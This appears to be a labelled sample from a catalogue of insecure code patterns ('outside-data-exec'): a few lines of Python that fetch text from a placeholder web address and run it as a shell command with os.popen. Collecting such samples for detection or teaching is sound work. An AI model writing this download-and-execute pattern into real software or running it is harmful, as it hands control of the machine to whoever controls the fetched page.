# family: outside-data-exec
# a command fetched from a web page runs in a shell
import os

import requests

cmd = requests.get("https://cmd.example.invalid/next", timeout=10).text.strip()
os.popen(cmd).read()
